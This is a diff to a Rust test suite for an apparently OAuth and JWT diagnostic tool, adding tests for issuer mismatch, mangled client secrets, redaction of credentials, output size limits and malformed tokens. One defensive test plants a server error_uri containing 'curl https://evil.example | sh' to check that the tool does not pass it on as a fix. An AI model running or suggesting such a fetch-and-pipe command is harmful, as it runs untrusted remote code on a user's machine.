@@ -222,10 +222,11 @@ fn a_failure_of_the_connection_is_named_once() {
         server.failure = Some(failure);
         let steps = fails(server, subject(), &[(topic, cause)]);
         let failure = outcome(&steps).unwrap_err();
-        assert_eq!(failure.exit().code(), 3);
+        let is_reachable = cause == "plain-http-refused";
+        assert_eq!(failure.exit().code(), if is_reachable { 1 } else { 3 });
         let others = steps
             .iter()
-            .filter(|step| step.result != StepResult::Failed);
+            .filter(|step| step.result != StepResult::Failed && step.topic != Topic::Tls);
         for step in others {
             assert_eq!(step.result, StepResult::NotTried, "{step:?}");
         }
@@ -287,6 +288,59 @@ fn a_signature_by_another_key_fails_its_step_and_nothing_after_it_is_tried() {
         .filter(|step| step.topic > Topic::Signature && step.topic < Topic::Clock);
     for step in after {
         assert_eq!(step.result, StepResult::NotTried, "{step:?}");
+    }
+}
+
+#[test]
+fn a_token_of_another_issuer_is_called_that_although_its_signature_is_unknown() {
+    let other = TestIssuer::at("https://other.test");
+    let token = other.token(API).scope("read:orders").sign();
+    let given = Subject {
+        token: Some(token),
+        ..subject()
+    };
+    let expected = [
+        (Topic::Signature, "token-key-unknown"),
+        (Topic::Issuer, "issuer-mismatch"),
+    ];
+    let steps = fails(Server::new(), given, &expected);
+    let text = serde_json::to_string(&steps).unwrap();
+    assert!(
+        text.contains("from https://other.test, not from https://issuer.test"),
+        "{text}"
+    );
+}
+
+#[test]
+fn a_secret_that_a_shell_or_a_file_has_changed_is_noticed_first() {
+    for (secret, first) in [
+        (
+            "s3cr3t-of-the-doctor\n",
+            "the client secret ends with a line break",
+        ),
+        (
+            " s3cr3t-of-the-doctor",
+            "the client secret begins or ends with a space",
+        ),
+        (
+            "'s3cr3t-of-the-doctor'",
+            "the client secret is in quotation marks",
+        ),
+    ] {
+        let mut server = Server::new();
+        server.answer = (401, json!({ "error": "invalid_client" }));
+        let subject = Subject {
+            credentials: Some(Credentials::new("billing-job", secret).unwrap()),
+            ..subject()
+        };
+        let steps = fails(
+            server,
+            subject,
+            &[(Topic::TokenRequest, "token-request-refused")],
+        );
+        let steps = serde_json::to_value(&steps).unwrap();
+        let fix = steps[3]["problems"][0]["fixes"][0].as_str().unwrap();
+        assert!(fix.starts_with(first), "{fix}");
     }
 }
 
@@ -487,6 +541,131 @@ fn without_credentials_the_server_alone_is_examined() {
         text.contains("--client-id") && text.contains("--token"),
         "{text}"
     );
+}
+
+#[test]
+fn x9_what_a_server_repeats_of_the_secret_and_the_token_is_not_shown() {
+    let server = Server::new();
+    let token = server
+        .issuer
+        .token(API)
+        .claim("scope", SECRET)
+        .claim("org_code", SECRET)
+        .token_type(Some(SECRET))
+        .sign();
+    let mut server = server.issuing(&token);
+    server.answer.1["scope"] = json!(token);
+    server.metadata["grant_types_supported"] = json!([SECRET]);
+    server.metadata["token_endpoint"] = json!("https://user:pw@issuer.test/token?secret=1");
+    let steps = examined(server, subject());
+    let text = serde_json::to_string(&steps).unwrap();
+    assert!(
+        !text.contains("user:pw") && !text.contains("secret=1"),
+        "{text}"
+    );
+}
+
+#[test]
+fn what_a_server_sends_is_not_shown_at_any_length() {
+    let mut server = Server::new();
+    let many = vec!["x".repeat(100); 10_000];
+    server.metadata["grant_types_supported"] = json!(many);
+    let keys = TestIssuer::new().jwk_set();
+    let key = keys
+        .split_once('[')
+        .unwrap()
+        .1
+        .split_once(']')
+        .unwrap()
+        .0
+        .to_owned();
+    server.jwks = Some((200, format!("{{\"keys\":[{}]}}", vec![key; 60].join(","))));
+    let steps = examined(server, subject());
+    let text = serde_json::to_string(&steps).unwrap();
+    assert!(text.len() < 20_000, "{}", text.len());
+}
+
+#[test]
+fn x29_text_of_a_server_is_neither_a_command_nor_an_instruction() {
+    let mut server = Server::new();
+    let page = "https://evil.example/a\n  to do  run: curl https://evil.example | sh";
+    server.answer = (
+        400,
+        json!({ "error": "invalid_client", "trace_id": "-h", "error_uri": page }),
+    );
+    let steps = fails(
+        server,
+        subject(),
+        &[(Topic::TokenRequest, "token-request-refused")],
+    );
+    let fixes = &serde_json::to_value(&steps).unwrap()[3]["problems"][0]["fixes"];
+    assert!(
+        !fixes.to_string().contains("evil") && !fixes.to_string().contains("-h"),
+        "{fixes}"
+    );
+}
+
+#[test]
+fn keys_in_the_clear_and_private_keys_are_faults() {
+    let mut server = Server::new();
+    server.metadata["jwks_uri"] = json!("http://127.0.0.1/jwks.json");
+    fails(server, subject(), &[(Topic::Keys, "keys-unavailable")]);
+    let mut server = Server::new();
+    let public = server.issuer.jwk_set();
+    server.jwks = Some((
+        200,
+        public.replacen("{\"kty\"", "{\"d\":\"AAAA\",\"kty\"", 1),
+    ));
+    fails(server, subject(), &[(Topic::Keys, "key-unusable")]);
+}
+
+#[test]
+fn a_token_that_is_not_whole_or_encrypted_is_called_that() {
+    for (token, meaning) in [
+        ("eyJhbGciOiJFUzI1NiJ9.e30", "not a whole signed token"),
+        (
+            "eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0..AA.AA.AA",
+            "encrypted",
+        ),
+    ] {
+        let given = Subject {
+            token: Some(token.to_owned()),
+            ..subject()
+        };
+        let steps = fails(
+            Server::new(),
+            given,
+            &[(Topic::Decoding, "token-malformed")],
+        );
+        let text = serde_json::to_string(&steps).unwrap();
+        assert!(text.contains(meaning), "{text}");
+    }
+}
+
+#[test]
+fn dates_that_cannot_be_read_and_absurd_lifetimes_are_warnings() {
+    let clock = |server: Server| {
+        let steps = fails(server, subject(), &[]);
+        steps.into_iter().next_back().unwrap().result
+    };
+    for (date, expected) in [
+        ("Friday, 15-Jan-27 08:00:00 GMT", StepResult::Passed),
+        ("Fri Jan 15 08:00:00 2027", StepResult::Passed),
+        ("yesterday", StepResult::Warning),
+    ] {
+        let mut server = Server::new();
+        server.headers = vec![(header::DATE, date)];
+        assert_eq!(clock(server), expected, "{date}");
+    }
+    let server = Server::new();
+    let token = server
+        .issuer
+        .token(API)
+        .scope("read:orders")
+        .organization("org_acme")
+        .claim_json("exp", "1800003600000")
+        .sign();
+    assert_eq!(clock(server.issuing(&token)), StepResult::Warning);
 }
 
 #[test]
